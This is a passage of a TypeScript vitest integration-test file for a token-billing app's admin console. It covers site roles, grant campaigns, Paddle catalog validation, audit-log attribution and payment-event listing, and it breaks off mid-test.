import { beforeAll, describe, expect, it } from 'vitest';
import { randomUUID } from 'node:crypto';
import { and, eq, sql } from 'drizzle-orm';
import { parse } from 'csv-parse/sync';
import { TRPCError } from '@trpc/server';
import { backend } from '../helpers/db';
import { makeWorld, type World, callerAs, type Caller } from '../helpers/world';
import { expectInvariants } from '../helpers/ledger';
import { paddleEventsFor, post, useStoreTestBed } from '../helpers/paddle';
import { setDb, type Db } from '../../src/lib/server/db';
import { openPostgres, queryRows } from '../../src/lib/server/db/client';
import { auditLog, lots, products, siteRoles, teamMembers, teams, users } from '../../src/lib/server/db/schema';
import { DomainError } from '../../src/lib/server/errors';
import { createSession, createSiteKey, createTeam, createUser, listSiteRoles, revokeApiKey, SESSION_COOKIE } from '../../src/lib/server/accounts';
import { call, callJson, useDb } from '../helpers/http';
import { accountDetail, applyCampaign, auditCsv, listAudit, operationsCsv, teamsCsv, usersCsv } from '../../src/lib/server/admin';
import { bearer, siteKey } from '../helpers/api-fixture';
import { adjustBalance, balances, clawback, consume, grant, hold, setAllowanceRule, settle, statement, upsertFeature, upsertModel, upsertModule } from '../../src/lib/server/ledger';
import { startCheckout } from '../../src/lib/server/store/orders';
import { listProducts, notInStore, paymentProvider, storeFront } from '../../src/lib/server/store';
import { getProduct } from '../../src/lib/server/store/catalog';
import { PaddleBillingProvider } from '../../src/lib/server/store/paddle/paddle-billing';

const bed = useStoreTestBed();
let db: Db;
let w: World;
let admin: Caller;

beforeAll(async () => {
	db = bed.db;
	setDb(db);
	w = await makeWorld(db);
	admin = await callerAs(w.auth.siteAdmin, '10.9.0.2');
});

async function refusal(p: Promise<unknown>) {
	try {
		await p;
	} catch (e) {
		if (!(e instanceof TRPCError)) throw e;
		return e.cause instanceof DomainError ? e.cause.code : e.code;
	}
	throw new Error('expected a refusal');
}

const auditOf = (action: string, targetId: string) =>
	db.orm.select().from(auditLog).where(and(eq(auditLog.action, action), eq(auditLog.targetId, targetId)));

const tag = () => randomUUID().slice(0, 8);

describe(`the site's roles on ${backend}`, () => {
	it('are a list the admin edits (audited); a user’s role is picked from it; a role in use cannot go', async () => {
		const key = `editor-${tag()}`;
		const roles = await admin.admin.roles.list();
		expect(roles.map((r) => r.key)).toEqual(expect.arrayContaining(['admin', 'subscriber']));

		expect(await refusal(admin.admin.users.setRole({ userId: w.users.memberB.id, role: key }))).toBe('invalid_input');
		expect(await admin.admin.roles.save({ key, name: 'Editor', isNew: true })).toMatchObject({ key, name: 'Editor', users: 0 });
		expect((await auditOf('role.created', key))[0]).toMatchObject({ before: null, after: { name: 'Editor', description: '' } });
		await admin.admin.roles.save({ key, name: 'Editors', description: 'Writes the blog', isNew: false });
		expect((await auditOf('role.updated', key))[0]).toMatchObject({ before: { name: 'Editor' }, after: { name: 'Editors', description: 'Writes the blog' } });

		await admin.admin.users.setRole({ userId: w.users.memberB.id, role: key });
		expect((await admin.admin.roles.list()).find((r) => r.key === key)).toMatchObject({ name: 'Editors', users: 1 });
		expect((await admin.admin.users.get({ accountId: w.users.memberB.accountId })).roles).toContain(key);
		expect(await refusal(admin.admin.roles.delete({ key }))).toBe('conflict');
		expect(await refusal(admin.admin.roles.delete({ key: 'subscriber' }))).toBe('conflict');

		await admin.admin.users.setRole({ userId: w.users.memberB.id, role: 'subscriber' });
		await admin.admin.roles.delete({ key });
		expect((await admin.admin.roles.list()).map((r) => r.key)).not.toContain(key);
		expect((await auditOf('role.deleted', key))[0]).toMatchObject({ before: { name: 'Editors' }, after: null });
		expect(await refusal(admin.admin.roles.save({ key: 'Not A Key', name: 'x', isNew: true }))).toBe('invalid_input');
	});

	it('gives a free key to one of two admins adding a role under it at once; the other is refused and renames nothing', async () => {
		const key = `race-${tag()}`;
		const add = (name: string) => admin.admin.roles.save({ key, name, isNew: true }).then((r) => r.name, (e: unknown) => refusal(Promise.reject(e)));
		const sameKey = await Promise.all([add(`First ${key}`), add(`Second ${key}`)]);
		expect(sameKey.filter((o) => o === 'conflict')).toHaveLength(1);
		const kept = sameKey.find((o) => o !== 'conflict');
		expect((await listSiteRoles(db.orm)).find((r) => r.key === key)?.name).toBe(kept);
		expect((await auditOf('role.created', key)).map((e) => e.after)).toEqual([{ name: kept, description: '' }]);
		expect(await auditOf('role.updated', key)).toEqual([]);
	});

	// Only a server runs another admin's transaction beside this one; registered there alone (CI fails on a skip).
	if (backend === 'postgres') it('checks a new role’s name only once a role another admin is adding is saved, and then refuses the twin', async () => {
		const other = openPostgres(bed.db.url!, { max: 1 });
		const name = `Twin ${tag()}`;
		let saving: Promise<unknown> = Promise.resolve();
		try {
			await other.orm.transaction(async (tx) => {
				await tx.insert(siteRoles).values({ key: `twin-b-${tag()}`, name });
				saving = refusal(admin.admin.roles.save({ key: `twin-a-${tag()}`, name: name.toUpperCase(), isNew: true }));
				await new Promise((r) => setTimeout(r, 300)); // the save reaches the roles' lock and waits for this commit
			});
			expect(await saving).toBe('conflict');
			expect((await listSiteRoles(db.orm)).filter((r) => r.name.toLowerCase() === name.toLowerCase())).toHaveLength(1);
		} finally {
			await other.close();
		}
	});

	it('refuses an edit of a role deleted meanwhile, and does not add it back', async () => {
		const key = `gone-${tag()}`;
		await admin.admin.roles.save({ key, name: `Gone ${key}`, isNew: true });
		await admin.admin.roles.delete({ key });
		expect(await refusal(admin.admin.roles.save({ key, name: 'Back again', isNew: false }))).toBe('not_found');
		expect((await listSiteRoles(db.orm)).map((r) => r.key)).not.toContain(key);
		expect(await auditOf('role.updated', key)).toEqual([]);
	});

	it('a user created with a role the list lacks puts it on the list', async () => {
		const key = `hosted-${tag()}`;
		await createUser(db.orm, { email: `${key}@example.com`, name: 'Hosted', siteRole: key });
		expect((await admin.admin.roles.list()).find((r) => r.key === key)).toMatchObject({ users: 1 });
	});
});

describe(`campaigns on ${backend}`, () => {
	it('grants an event bonus to every user of a role once per account, however often it is sent, and counts them', async () => {
		const role = `vip-${tag()}`;
		await admin.admin.roles.save({ key: role, name: 'VIP', isNew: true });
		const vips = await Promise.all([1, 2, 3].map((i) => createUser(db.orm, { email: `${role}-${i}@example.com`, name: `VIP ${i}`, siteRole: role })));
		const note = `Launch week ${role}`;
		const input = { audience: 'role' as const, role, tokens: 250, note, key: `campaign-${role}` };

		// The count the admin confirms before it goes out is the count it then reaches.
		expect(await admin.admin.campaigns.reach({ audience: 'role', role })).toBe(3);
		// Sent twice at once and once more later: one campaign, one lot per account.
		const [first, second] = await Promise.all([admin.admin.campaigns.start(input), admin.admin.campaigns.start(input)]);
		expect(first.id).toBe(second.id);
		const again = await admin.admin.campaigns.start(input);
		expect(again).toMatchObject({ id: first.id, reached: 3, audience: 'role', role, tokens: 250, note });
		expect(again.finishedAt).not.toBeNull();
		for (const v of vips) {
			const theirs = await db.orm.select().from(lots).where(eq(lots.accountId, v.accountId));
			expect(theirs.map((l) => ({ source: l.source, amount: Number(l.amount), note: l.note }))).toEqual([{ source: 'event', amount: 250, note }]);
			expect((await balances(db.orm, v.accountId)).available).toBeGreaterThanOrEqual(250);
		}
		const other = await db.orm.select().from(lots).where(eq(lots.accountId, w.users.memberA.accountId));
		expect(other.filter((l) => l.note === note)).toEqual([]);
		expect(await auditOf('campaign.created', first.id)).toHaveLength(1);

		// A member who takes the role later gets it when the campaign is applied again; the others do not get a second lot.
		const late = await createUser(db.orm, { email: `${role}-late@example.com`, name: 'VIP late', siteRole: role });
		expect(await admin.admin.campaigns.applyAgain({ id: first.id })).toMatchObject({ reached: 4 });
		const applied = await auditOf('campaign.applied', first.id);
		expect(applied.at(-1)).toMatchObject({ before: { reached: 3 }, after: { reached: 4 } });
		expect(await db.orm.select().from(lots).where(and(eq(lots.accountId, late.accountId), eq(lots.note, note)))).toHaveLength(1);

		// The same key with another campaign is refused and changes nothing.
		expect(await refusal(admin.admin.campaigns.start({ ...input, tokens: 999 }))).toBe('idempotency_key_reused');
		expect((await admin.admin.campaigns.list()).find((c) => c.id === first.id)).toMatchObject({ reached: 4, tokens: 250 });
		await expectInvariants(db);
	});

	it('reaches every enabled user in batches, a team’s pool as one account, and refuses what it cannot grant', async () => {
		const [enabled] = await queryRows<{ n: number }>(db.orm, sql`select count(*)::int as n from users where disabled_at is null`);
		expect(await admin.admin.campaigns.reach({ audience: 'all' })).toBe(Number(enabled!.n));
		const all = await admin.admin.campaigns.start({ audience: 'all', tokens: 10, note: 'Everyone', key: `all-${tag()}` });
		expect(all.reached).toBe(Number(enabled!.n));
		// Applied again two accounts per transaction: the keyset walk finds no one new and grants nothing twice.
		expect((await applyCampaign(db, { userId: w.users.siteAdmin.id, ip: null }, all.id, 2)).reached).toBe(Number(enabled!.n));
		const [everyone] = await queryRows<{ n: number }>(db.orm, sql`select count(*)::int as n from lots where note = 'Everyone'`);
		expect(Number(everyone!.n)).toBe(Number(enabled!.n));

		expect(await admin.admin.campaigns.reach({ audience: 'team', teamId: w.teamA.id })).toBe(1);
		expect(await admin.admin.campaigns.reach({ audience: 'team', teamId: randomUUID() })).toBe(0);
		expect(await admin.admin.campaigns.reach({ audience: 'role', role: 'nobody-has-this' })).toBe(0);
		const team = await admin.admin.campaigns.start({ audience: 'team', teamId: w.teamA.id, tokens: 40, note: 'Team offsite', key: `team-${tag()}` });
		expect(team).toMatchObject({ reached: 1, teamName: `Team A ${w.tag}` });
		expect(await db.orm.select().from(lots).where(and(eq(lots.accountId, w.teamA.accountId), eq(lots.note, 'Team offsite')))).toHaveLength(1);

		expect(await refusal(admin.admin.campaigns.start({ audience: 'role', role: 'nobody-has-this', tokens: 1, note: 'x', key: `r-${tag()}` }))).toBe('invalid_input');
		expect(await refusal(admin.admin.campaigns.start({ audience: 'all', tokens: 1, model: 'no-such-model', note: 'x', key: `m-${tag()}` }))).toBe('unknown_model');
		expect(await refusal(admin.admin.campaigns.start({ audience: 'all', tokens: 1, note: 'x', expiresOn: '2020-01-01', key: `e-${tag()}` }))).toBe('invalid_input');
		expect(await refusal(admin.admin.campaigns.start({ audience: 'team', teamId: randomUUID(), tokens: 1, note: 'x', key: `t-${tag()}` }))).toBe('not_found');
		await expectInvariants(db);
	});
});

describe(`the catalog on ${backend}`, () => {
	it('previews what a buyer sees per Paddle environment, takes a package off sale and reorders them, audited', async () => {
		const sandbox = await admin.admin.catalog.preview({ environment: 'sandbox' });
		const active = (await listProducts(db.orm, { activeOnly: true })).map((p) => p.id);
		expect(sandbox.map((o) => o.id)).toEqual(active);
		const id = sandbox[0]!.id;
		await admin.admin.catalog.setActive({ id, active: false });
		expect((await admin.admin.catalog.preview({ environment: 'sandbox' })).map((o) => o.id)).not.toContain(id);
		expect((await auditOf('store.product_updated', id)).at(-1)).toMatchObject({ before: { active: true }, after: { active: false } });
		await admin.admin.catalog.setActive({ id, active: true });

		const order = (await listProducts(db.orm, { activeOnly: false })).map((p) => p.id).reverse();
		await admin.admin.catalog.reorder({ ids: order });
		expect((await listProducts(db.orm, { activeOnly: false })).map((p) => p.id)).toEqual(order);
		expect(await refusal(admin.admin.catalog.reorder({ ids: order.slice(1) }))).toBe('invalid_input');
		expect(await refusal(admin.admin.catalog.setActive({ id: 'no-such-pack', active: true }))).toBe('not_found');
	});

	it('adds a package only under a free id and changes only the package edited; a refused save changes nothing and is not audited', async () => {
		const id = `own-${tag()}`;
		const pack = { id, kind: 'pack' as const, name: 'Own pack', grants: [{ model: null, tokens: 1_000 }], priceCents: 700, paddlePriceSandbox: `pri_own_${id.slice(4)}` };
		const created = await admin.store.admin.createProduct(pack);
		expect(created).toMatchObject({ id, name: 'Own pack', priceCents: 700 });
		expect(await auditOf('store.product_created', id)).toEqual([expect.objectContaining({ before: null, after: expect.objectContaining({ name: 'Own pack' }) })]);
		const entries = async () => (await db.orm.select().from(auditLog).where(eq(auditLog.targetId, id))).length;
		const stored = async () => (await listProducts(db.orm, { activeOnly: false })).find((p) => p.id === id);

		// "Add package" with that id again (another admin's form, or an out-of-date list): refused, the package as it was.
		const before = await stored();
		const taken = admin.store.admin.createProduct({ ...pack, name: 'Someone else’s pack', priceCents: 100, paddlePriceSandbox: null, active: false });
		await expect(taken).rejects.toThrow('The id “' + id + '” is already the package “Own pack”: pick another id, or edit that package in the list.');
		expect(await refusal(admin.store.admin.createProduct(pack))).toBe('conflict');
		expect(await stored()).toEqual(before);
		// A price id not in Paddle's form, or more tokens than the ledger takes, is said in words with the rule and its maximum.
		await expect(admin.store.admin.updateProduct({ ...pack, paddlePriceSandbox: 'pri_x' })).rejects.toThrow('Paddle price sandbox must be a Paddle price id: pri_ then at least 4 lower-case letters, digits or _');
		await expect(admin.store.admin.updateProduct({ ...pack, grants: [{ model: null, tokens: 1e20 }] })).rejects.toThrow('Grants tokens must be a whole number from 1 to 1,000,000,000,000.');
		// A currency Paddle does not price in (a made-up code was saved and shown as "DOL 5.00"): refused with the rule.
		for (const currency of ['DOL', 'XYZ', 'usd', 'DOLLARS']) {
			await expect(admin.store.admin.updateProduct({ ...pack, currency }), currency).rejects.toThrow('Currency must be a currency Paddle Billing prices in, as its 3-letter code (USD, EUR, GBP, …)');
		}
		// The highest price is 1,000,000 of the currency's own unit: $1,000,000.00 is 100,000,000 cents, ¥1,000,000 is 1,000,000 yen.
		for (const [currency, priceCents] of [['USD', 100_000_001], ['JPY', 1_000_001]] as const) {
			await expect(admin.store.admin.updateProduct({ ...pack, currency, priceCents }), currency).rejects.toThrow('Price cents must be at most 1,000,000 in its currency');
		}
		// A bundle of one model is a model pack (the store lists bundles as "Several models at once"): refused, saying so.
		await expect(admin.store.admin.updateProduct({ ...pack, kind: 'bundle' })).rejects.toThrow("Grants: a bundle grants tokens for two models or more (one model's tokens are a model pack)");
		expect(await stored()).toEqual(before);
		expect(await entries()).toBe(1);

		// "Save changes" of a package that is not there creates nothing.
		const missing = `missing-${tag()}`;
		expect(await refusal(admin.store.admin.updateProduct({ ...pack, id: missing, paddlePriceSandbox: null }))).toBe('not_found');
		expect((await listProducts(db.orm, { activeOnly: false })).map((p) => p.id)).not.toContain(missing);
		expect(await db.orm.select().from(auditLog).where(eq(auditLog.targetId, missing))).toEqual([]);

		// Editing changes that package, audited with before and after.
		expect(await admin.store.admin.updateProduct({ ...pack, name: 'Own pack, renamed', priceCents: 900 })).toMatchObject({ id, name: 'Own pack, renamed', priceCents: 900 });
		expect(await auditOf('store.product_updated', id)).toEqual([expect.objectContaining({ before: expect.objectContaining({ name: 'Own pack', priceCents: 700 }), after: expect.objectContaining({ name: 'Own pack, renamed', priceCents: 900 }) })]);
		expect(await entries()).toBe(2);
	});

	it('says before a save which other packages’ “Save N%” it changes, by the store’s own figures, and writes nothing', async () => {
		// A model of the test's own: the yardstick is per model, so the demo's packs move nothing here.
		const model = `m-${tag()}`;
		const other = `n-${model.slice(2)}`;
		await upsertModel(db.orm, { key: model, name: 'Savings model', engine: 'openai' });
		await upsertModel(db.orm, { key: other, name: 'Other savings model', engine: 'openai' });
		const pack = { id: `one-${model}`, kind: 'model_pack' as const, name: 'Single', grants: [{ model, tokens: 100 }], priceCents: 100, paddlePriceSandbox: `pri_one_${model.slice(2)}` };
		const otherPack = { ...pack, id: `one-${other}`, name: 'Other single', grants: [{ model: other, tokens: 100 }], paddlePriceSandbox: `pri_oth_${model.slice(2)}` };
		// 50 tokens of each model for 75 cents, where their packs sell 50 of each for 100: "Save 25%".
		const bundle = { id: `two-${model}`, kind: 'bundle' as const, name: 'Starter', grants: [{ model, tokens: 50 }, { model: other, tokens: 50 }], priceCents: 75, paddlePriceSandbox: `pri_two_${model.slice(2)}` };
		await admin.store.admin.createProduct(pack);
		await admin.store.admin.createProduct(otherPack);
		await admin.store.admin.createProduct(bundle);
		const shown = async () => (await admin.admin.catalog.preview({ environment: 'sandbox' })).find((o) => o.id === bundle.id)?.savingsPercent;
		expect(await shown()).toBe(25);

		// A bigger pack at $8.33 a thousand: its 50 tokens cost 41.65 cents, so Starter's "Save 25%" would become "Save 18%" (75 against 91.65).
		const bigger = { id: `big-${model}`, kind: 'model_pack' as const, name: 'Big', grants: [{ model, tokens: 1_000 }], priceCents: 833 };
		const stored = async () => ({ products: await listProducts(db.orm, { activeOnly: false }), audit: (await db.orm.select().from(auditLog)).length });
		const before = await stored();
		expect(await admin.admin.catalog.savings(bigger)).toEqual([{ id: bundle.id, name: 'Starter', before: 25, after: 18 }]);
		// Editing the single pack's price (75 against 95 cents), or taking it off sale (no pack left to compare with: no label).
		expect(await admin.admin.catalog.savings({ ...pack, priceCents: 90 })).toEqual([{ id: bundle.id, name: 'Starter', before: 25, after: 21 }]);
		expect(await admin.admin.catalog.savings({ ...pack, active: false })).toEqual([{ id: bundle.id, name: 'Starter', before: 25, after: null }]);
		expect(await admin.admin.catalog.savings({ ...pack, name: 'Single, renamed' })).toEqual([]);
		// Input the save would refuse is refused here too, in its words.
		await expect(admin.admin.catalog.savings({ ...bigger, priceCents: 0 })).rejects.toThrow('Price cents must be more than 0');
		expect(await stored()).toEqual(before);

		// What it said is what the store then shows.
		await admin.store.admin.createProduct(bigger);
		expect(await shown()).toBe(18);
	});

	it('never lists a package buyers cannot buy here as on sale: without a price id of the environment the site sells in it is "not in the store", saying why', async () => {
		const id = `pro-${tag()}`;
		const pro = { id, kind: 'subscription' as const, name: 'Pro monthly', grants: [{ model: null, tokens: 50_000 }], priceCents: 2900, billingInterval: 'month' as const };
		const live = await paymentProvider();
		const sold = async () => (await storeFront(db)).offers.map((o) => o.id);
		// On sale without price ids (added where the site sells, its price was made, and then cleared): the answer, the list and a
		// put-on-sale say it is not in the store, as the store leaves it out.
		await admin.store.admin.createProduct(pro);
		const created = await admin.store.admin.updateProduct({ ...pro, paddlePriceSandbox: null });
		expect(created.notInStore).toBe(notInStore(created, live));
		expect(created.notInStore).not.toBeNull();
		expect((await admin.store.admin.products()).find((p) => p.id === id)?.notInStore).toBe(created.notInStore);
		expect((await admin.admin.catalog.setActive({ id, active: true })).notInStore).toBe(created.notInStore);
		expect(await sold()).not.toContain(id);
		// Why, per site: the simulator sells through the sandbox id; real Paddle through its environment's; no payments, nothing.
		const product = await getProduct(db.orm, id);
		expect(notInStore(product, bed.paddle)).toBe('it has no sandbox price id, and the local Paddle simulator this site sells through sells a package only through that id. Type one in “Paddle price id, sandbox”: any pri_ id no other package has will do.');
		expect(notInStore(product, new PaddleBillingProvider('pdl_test_key', 'test_token', 'production'))).toBe(
			"it has no production price id, and this site sells through Paddle's production environment. Create a price for it in Paddle's production dashboard and paste its id (pri_…) in “Paddle price id, production”."
		);
		expect(notInStore(product, null)).toMatch(/^payments are not configured on this site, so the store sells nothing/);
		expect(notInStore({ ...product, paddlePriceSandbox: 'pri_pro_sandbox' }, bed.paddle)).toBeNull();
		expect((await admin.admin.catalog.setActive({ id, active: false })).notInStore).toBeNull();

		// With the sandbox price id, on sale: the simulator's store sells it, and the console says so (and it is so wherever the site sells).
		const updated = await admin.store.admin.updateProduct({ ...pro, paddlePriceSandbox: `pri_pro_${id.slice(4)}` });
		expect(updated.notInStore).toBe(notInStore(updated, live));
		expect((await sold()).includes(id)).toBe(live !== null && updated.notInStore === null);
		if (live?.environment === 'sandbox') expect(await sold()).toContain(id);
	});

	it('gives a free id to one of two admins adding a package under it at once; the other is refused', async () => {
		const id = `race-${tag()}`;
		const add = (name: string) => admin.store.admin.createProduct({ id, kind: 'pack', name, grants: [{ model: null, tokens: 10 }], priceCents: 100 }).then(
			(p) => p.name,
			(e: unknown) => refusal(Promise.reject(e))
		);
		const outcomes = await Promise.all([add('First'), add('Second')]);
		expect(outcomes.filter((o) => o === 'conflict')).toHaveLength(1);
		const kept = outcomes.find((o) => o !== 'conflict');
		expect((await listProducts(db.orm, { activeOnly: false })).find((p) => p.id === id)?.name).toBe(kept);
		expect(await auditOf('store.product_created', id)).toEqual([expect.objectContaining({ after: expect.objectContaining({ name: kept }) })]);
	});

	// Only a server runs another admin's transaction beside this one; registered there alone (CI fails on a skip).
	if (backend === 'postgres') it('checks a new package’s Paddle price only once a package another admin is adding is saved, and then refuses the second seller', async () => {
		const other = openPostgres(bed.db.url!, { max: 1 });
		const price = `pri_twin_${tag()}`;
		const pack = (id: string) => ({ id, kind: 'pack' as const, name: `Twin ${id}`, grants: [{ model: null, tokens: 10 }], priceCents: 100, paddlePriceSandbox: price });
		let saving: Promise<unknown> = Promise.resolve();
		try {
			await other.orm.transaction(async (tx) => {
				await tx.insert(products).values(pack(`twin-b-${tag()}`));
				saving = refusal(admin.store.admin.createProduct(pack(`twin-a-${tag()}`)));
				await new Promise((r) => setTimeout(r, 300)); // the save reaches the catalog's lock and waits for this commit
			});
			expect(await saving).toBe('conflict');
			// One package sells through the price: a payment for it is credited to that one.
			expect((await listProducts(db.orm, { activeOnly: false })).filter((p) => p.paddlePriceSandbox === price)).toHaveLength(1);
		} finally {
			await other.close();
		}
	});
});

describe(`the audit log on ${backend}`, () => {
	// What the admin's audit log shows for an entry: listAudit is its page's read.
	const shownIp = async (action: string, targetId: string) => (await listAudit(db.orm, { action })).rows.find((r) => r.targetId === targetId)?.ip;

	it('shows the address of every action taken on behalf of a request: in the console, in the app, with a site key', async () => {
		const endpoint = await admin.webhooks.create({ url: 'https://hooks.example.com/audited', event_types: ['grant.created'] });
		await admin.webhooks.update({ id: endpoint.id, description: 'Audited' });
		await admin.webhooks.remove({ id: endpoint.id });
		for (const action of ['webhook_endpoint.create', 'webhook_endpoint.update', 'webhook_endpoint.delete']) expect(await shownIp(action, endpoint.id), action).toBe('10.9.0.2');

		const product = await admin.store.admin.createProduct({ id: `audited-${tag()}`, kind: 'pack', name: 'Audited pack', grants: [{ model: null, tokens: 1_000 }], priceCents: 100 });
		expect(await shownIp('store.product_created', product.id)).toBe('10.9.0.2');

		const member = await callerAs(w.auth.memberB, '10.9.0.3');
		const team = await member.team.create({ name: `Audited team ${tag()}` });
		expect(await shownIp('team.created', team.id)).toBe('10.9.0.3');

		await useDb(db);
		const site = bearer(await siteKey(db));
		const clientAddress = '203.0.113.7';
		const created = await callJson('/api/v1/webhook-endpoints', { headers: site, clientAddress, body: { url: 'https://hooks.example.com/by-key', event_types: ['grant.created'] } });
		expect(created.status).toBe(201);
		const id = String(created.json.id);
		expect((await call(`/api/v1/webhook-endpoints/${id}`, { method: 'PATCH', headers: site, clientAddress, body: { enabled: false } })).status).toBe(200);
		expect((await call(`/api/v1/webhook-endpoints/${id}`, { method: 'DELETE', headers: site, clientAddress })).status).toBeLessThan(300);
		for (const action of ['webhook_endpoint.create', 'webhook_endpoint.update', 'webhook_endpoint.delete']) expect(await shownIp(action, id), action).toBe(clientAddress);

		const granted = await callJson('/api/v1/grants', { headers: { ...site, 'idempotency-key': `audited-${tag()}` }, clientAddress, body: { user: `audited-${tag()}`, tokens: 5, source: 'bonus' } });
		expect(granted.status).toBe(201);
		expect(await shownIp('ledger.grant', String(granted.json.lot_id))).toBe(clientAddress);
	});

	it('names the API key that granted, by its name and prefix as the API keys page lists it, in the log and its export, also once it is revoked', async () => {
		const name = `Billing backend ${tag()}`;
		const key = await createSiteKey(db, w.auth.siteAdmin!, { name, scopes: ['grant'] });
		await useDb(db);
		const granted = await callJson('/api/v1/grants', { headers: bearer(key.value, { 'idempotency-key': `named-${tag()}` }), body: { user: `named-${tag()}`, tokens: 5, source: 'bonus' } });
		expect(granted.status).toBe(201);
		const lotId = String(granted.json.lot_id);
		const entry = async () => (await listAudit(db.orm, { action: 'ledger.grant' })).rows.find((r) => r.targetId === lotId);
		const exported = async () => (await csvRows((await auditCsv(db.orm, { action: 'ledger.grant' })).body)).find((r) => r.target_id === lotId);

		expect(await entry()).toMatchObject({ actor: null, actorKeyId: key.id, actorKey: { name, prefix: key.prefix, revoked: false } });
		expect((await exported())?.actor).toBe(`API key “${name}” (${key.prefix}…)`);
		expect(key.prefix).toMatch(/^qk_.{8}$/);

		await revokeApiKey(db, w.auth.siteAdmin!, key.id);
		expect(await entry()).toMatchObject({ actorKeyId: key.id, actorKey: { name, prefix: key.prefix, revoked: true } });
		expect((await exported())?.actor).toBe(`API key “${name}” (${key.prefix}…, revoked since)`);
	});
});

describe(`payments on ${backend}`, () => {
	it('lists received events failed first, counts duplicate deliveries, and names the order and account', async () => {
		const c = await startCheckout(db.orm, bed.paddle, { accountId: w.users.memberA.accountId, userId: w.users.memberA.id, email: null, productId: 'tokens-5k', quantity: 1 });
		const event = await (await paddleEventsFor(db, c, 'tokens-5k', 1)).completed();
		expect((await post(bed.hook.url, event)).body).toMatchObject({ outcome: 'processed' });
		expect((await post(bed.hook.url, event)).body).toMatchObject({ duplicate: true });
		expect((await post(bed.hook.url, null, { body: 'not json at all' })).status).toBe(400);

		const page = await admin.admin.payments.list({});
		expect(page.rows[0]).toMatchObject({ outcome: 'flagged', status: 'rejected', note: 'body is not JSON' });
		const applied = page.rows.find((r) => r.transactionId === c.transactionId)!;
		expect(applied).toMatchObject({ outcome: 'applied', deliveries: 2, order: { id: c.orderId, status: 'completed' }, account: { id: w.users.memberA.accountId, name: w.users.memberA.name }, tokens: 5000 });
		// What the completed order paid, in its currency (the page says "$5.00"): a completed order with no amount read as free.
		const [paid] = await db.rows<{ amount_cents: string | number; currency: string }>(sql`select amount_cents, currency from orders where id = ${c.orderId}::uuid`);
		expect(Number(paid!.amount_cents)).toBeGreaterThan(0);
		expect(applied.order!.amount).toEqual({ cents: Number(paid!.amount_cents), currency: paid!.currency });
		expect((await admin.admin.payments.list({ outcome: 'duplicate' })).rows.map((r) => r.eventId)).toEqual([applied.eventId]);
		expect((await admin.admin.payments.list({ outcome: 'flagged' })).rows.every((r) => r.outcome === 'flagged')).toBe(true);
		expect(await refusal(admin.admin.payments.list({ cursor: 'garbage' }))).toBe('invalid_input');
		await expectInvariants(db);
	});

	it("filters by account, as a user's page links to it: only the events about its orders and subscriptions, with its name; an id that is none or no account's is said, never a 500", async () => {
		const b = w.users.memberB;
		const c = await startCheckout(db.orm, bed.paddle, { accountId: b.accountId, userId: b.id, email: null, productId: 'monthly-20k', quantity: 1 });
		await bed.paddle.pay(c.transactionId);
		const sub = (await bed.paddle.listRecords()).subscriptions.find((s) => s.transactionId === c.transactionId)!;
		await bed.paddle.cancelSubscription(sub.id);
		const other = await startCheckout(db.orm, bed.paddle, { accountId: w.users.memberA.accountId, userId: w.users.memberA.id, email: null, productId: 'tokens-5k', quantity: 1 });
		await bed.paddle.pay(other.transactionId);

		const page = await admin.admin.payments.list({ account: b.accountId });
		expect(page.account).toEqual({ id: b.accountId, name: b.name });
		expect(page.rows.map((r) => r.eventType).sort()).toEqual(['subscription.created', 'subscription.updated', 'transaction.completed']);
		expect(page.rows.every((r) => r.account?.id === b.accountId)).toBe(true);
		expect((await admin.admin.payments.list({})).rows.some((r) => r.transactionId === other.transactionId)).toBe(true);
		expect((await admin.admin.payments.list({ account: b.accountId, outcome: 'duplicate' })).rows).toEqual([]);
		expect((await admin.admin.payments.list({})).account).toBeNull();

		const said = async (p: Promise<unknown>) => p.then(() => null, (e: TRPCError) => [e.cause instanceof DomainError ? e.cause.code : e.code, e.message]);
		expect(await said(admin.admin.payments.list({ account: 'maya@example.com' }))).toEqual(['BAD_REQUEST', "Account: “maya@example.com” is not an account's id: open an account's payments from its page in the console."]);
		const nobody = randomUUID();
		expect(await said(admin.admin.payments.list({ account: nobody }))).toEqual(['not_found', `No account has the id ${nobody}. Check the link, or show every account's payments.`]);
		await expectInvariants(db);
	});

	it("searches by an account's name or e-mail as typed in the Search box, any case, a page at a time by keyset; a longer text is refused", async () => {
		const b = w.users.memberB;
		const c = await startCheckout(db.orm, bed.paddle, { accountId: b.accountId, userId: b.id, email: null, productId: 'tokens-5k', quantity: 1 });
		await bed.paddle.pay(c.transactionId);
		const ofB = (rows: { account: { id: string } | null }[]) => rows.length > 0 && rows.every((r) => r.account?.id === b.accountId);
		for (const text of [b.email!.slice(0, 12).toUpperCase(), b.name, ` ${b.name.slice(2, 9)} `]) expect(ofB((await admin.admin.payments.list({ search: text })).rows), text).toBe(true);
		expect((await admin.admin.payments.list({ search: 'nobody-has-this-name' })).rows).toEqual([]);
		// LIKE's own characters are text: "%" finds no name with a percent sign, not every account.
		expect((await admin.admin.payments.list({ search: '%' })).rows).toEqual([]);
		// With the other filters: Show and a user's page's account.
		expect((await admin.admin.payments.list({ search: b.email, account: w.users.memberA.accountId })).rows).toEqual([]);
		expect((await admin.admin.payments.list({ search: b.email, outcome: 'flagged' })).rows).toEqual([]);

		// More than a page of B's events (older than the rest, so the other tests' pages stay theirs): every one once, by keyset.
		await db.rows(sql`
			insert into paddle_events (event_id, event_type, occurred_at, received_at, outcome, transaction_id, payload)
			select 'evt_search_' || i, 'transaction.updated', now(), timestamptz '2020-01-01' + i * interval '1 minute', 'processed', ${c.transactionId}, '{}'::jsonb
			  from generate_series(1, 55) i`);
		const first = await admin.admin.payments.list({ search: b.email });
		expect(first.rows).toHaveLength(50);
		expect(first.nextCursor).not.toBeNull();
		const second = await admin.admin.payments.list({ search: b.email, cursor: first.nextCursor });
		const all = [...first.rows, ...second.rows];
		expect(ofB(all)).toBe(true);
		expect(new Set(all.map((r) => r.eventId)).size).toBe(all.length);
		expect(all.filter((r) => r.eventId.startsWith('evt_search_'))).toHaveLength(55);
		expect(second.nextCursor).toBeNull();

		await expect(admin.admin.payments.list({ search: 'x'.repeat(201) })).rejects.toMatchObject({ code: 'BAD_REQUEST' });
	});

	it('a failed payment whose order completed later says what it did (failed), then what the order is now', async () => {
		const c = await startCheckout(db.orm, bed.paddle, { accountId: w.users.memberA.accountId, userId: w.users.memberA.id, email: null, productId: 'tokens-5k', quantity: 1 });
		const events = await paddleEventsFor(db, c, 'tokens-5k', 1);
		const failed = events.paymentFailed();
		expect((await post(bed.hook.url, failed)).body).toMatchObject({ outcome: 'processed' });
